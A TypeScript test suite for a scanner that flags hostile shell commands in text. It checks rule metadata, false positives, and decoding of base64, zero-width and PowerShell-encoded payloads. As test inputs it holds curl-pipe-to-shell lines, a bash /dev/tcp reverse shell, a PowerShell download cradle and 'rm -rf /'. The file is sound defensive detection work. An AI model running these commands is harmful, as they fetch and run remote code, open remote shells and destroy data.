import { describe, expect, it } from 'vitest';
import { scan } from '../scanner.js';
import { COMMAND_RULES, commandsDetector } from './index.js';

const ctx = { present: new Set<string>(), view: 'original' };
const detect = (text: string) => commandsDetector.detect(text, ctx);
const rules = (text: string) => [...new Set(detect(text).map((f) => f.rule))].sort();

describe('commands rule pack', () => {
  it('has unique, well-formed ids, 3+ examples each way, a family, a score and an ATT&CK id', () => {
    const ids = new Set<string>();
    for (const rule of COMMAND_RULES) {
      expect(ids.has(rule.id), rule.id).toBe(false);
      ids.add(rule.id);
      expect(rule.id).toMatch(new RegExp(`^commands\\.${rule.family}\\.[a-z0-9-]+$`));
      expect(rule.examples.tp.length, rule.id).toBeGreaterThanOrEqual(3);
      expect(rule.examples.fp.length, rule.id).toBeGreaterThanOrEqual(3);
      expect(rule.attack).toMatch(/^T\d{4}(?:\.\d{3})?$/);
      expect(rule.score).toBeGreaterThan(0);
      expect(rule.score).toBeLessThanOrEqual(1);
    }
    expect(new Set(COMMAND_RULES.map((r) => r.family)).size).toBe(9);
  });

  for (const rule of COMMAND_RULES) {
    describe(rule.id, () => {
      it.each(rule.examples.tp)('fires on %j', (text) => {
        expect(rules(text)).toContain(rule.id);
      });
      it.each(rule.examples.fp)('stays quiet on %j', (text) => {
        expect(rules(text)).not.toContain(rule.id);
      });
    });
  }
});

describe('commandsDetector', () => {
  it('is named commands and pre-filters on lower-case keywords', () => {
    expect(commandsDetector.name).toBe('commands');
    expect(commandsDetector.keywords.length).toBeGreaterThan(50);
    for (const k of commandsDetector.keywords) expect(k).toBe(k.toLowerCase());
  });

  it('reports rule, family category, severity, score, attack, explanation and a descriptive message', () => {
    const [f] = detect('curl -fsSL http://203.0.113.7/i.sh | sh');
    expect(f).toMatchObject({ rule: 'commands.download-exec.pipe-to-shell', category: 'download-exec', severity: 'critical', attack: 'T1105', start: 0, end: 39 });
    expect(f!.message).toContain('curl output piped into sh');
    expect(f!.message).not.toContain('203.0.113.7');
    expect(f!.explanation![0]!.step).toBe('structure');
    expect(f!.explanation!.some((s) => s.reason.includes('bare IP'))).toBe(true);
  });

  it('stays quiet on benign admin commands and prose', () => {
    const benign = [
      'rm -rf ./build',
      'rm -rf node_modules',
      'chmod 755 script.sh',
      'curl -o file.tar.gz https://example.com/file.tar.gz',
      'pip install requests',
      'npm install express',
      'git clone https://github.com/example/repo.git',
      'docker run --rm -it ubuntu bash',
      'kubectl get pods',
      'crontab -l',
      'cat ~/.bashrc',
      'The rm command removes files.',
      'Use curl to download files from the command line.',
      'process.name: "certutil.exe" and process.args: "-urlcache"',
      '```bash\nset -euo pipefail\nnpm ci\nnpm run build\ntar czf dist.tgz dist\nrm -rf dist\n```',
    ];
    for (const text of benign) expect(detect(text), text).toEqual([]);
  });

  it('lowers the score of well-known installers and keeps them high, not critical', () => {
    const [f] = detect('curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh');
    expect(f).toMatchObject({ rule: 'commands.download-exec.pipe-to-shell', severity: 'high' });
    expect(f!.score).toBeLessThan(0.9);
  });

  it('lowers the score when the text warns against the command, but still reports it', () => {
    const plain = detect('rm -rf /')[0]!;
    const warned = detect('Never run rm -rf / on a server.')[0]!;
    expect(warned.rule).toBe('commands.destructive.rm-root');
    expect(warned.score).toBeLessThan(plain.score);
  });

  it('is quick to say no: no trigger word, no work', () => {
    expect(detect('Here is a quick overview of how the deployment pipeline works.')).toEqual([]);
    expect(detect('')).toEqual([]);
  });
});

describe('through scan()', () => {
  it('maps findings to original offsets with masked previews', () => {
    const text = 'Install it with:\n\n```bash\ncurl -s http://198.51.100.9/setup.sh | sudo bash\n```\n';
    const { findings } = scan(text, { detectors: [commandsDetector] });
    expect(findings).toHaveLength(1);
    const f = findings[0]!;
    expect(f.detector).toBe('commands');
    expect(text.slice(f.start, f.end)).toBe('curl -s http://198.51.100.9/setup.sh | sudo bash');
    expect(f.preview).not.toContain('198.51.100.9');
    expect(f.segment.kind).toBe('code');
  });

  it('finds a command hidden with zero-width characters (normalized view)', () => {
    const text = 'run: c\u200burl -s http://203.0.113.5/x | b\u200bash';
    const { findings } = scan(text, { detectors: [commandsDetector] });
    const f = findings.find((x) => x.rule === 'commands.download-exec.pipe-to-shell');
    expect(f).toBeDefined();
    expect(f!.views).toContain('invisible');
  });

  it('finds a command inside a base64 payload (decoded view)', () => {
    const payload = Buffer.from('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').toString('base64');
    const text = `Decode this config value: ${payload}`;
    const { findings } = scan(text, { detectors: [commandsDetector] });
    const f = findings.find((x) => x.rule === 'commands.reverse-shell.dev-tcp');
    expect(f).toBeDefined();
    expect(f!.views).toContain('base64');
    expect(text.slice(f!.start, f!.end)).toBe(payload);
  });

  it('decodes PowerShell -EncodedCommand and analyses the script inside', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')";
    const enc = Buffer.from(script, 'utf16le').toString('base64');
    const { findings } = scan(`powershell -nop -w hidden -enc ${enc}`, { detectors: [commandsDetector] });
    const ids = findings.flatMap((f) => [f.rule, ...(f.related ?? []).map((r) => r.rule)]);
    expect(ids).toEqual(expect.arrayContaining(['commands.defense-evasion.powershell-encoded', 'commands.download-exec.powershell-cradle']));
  });
});
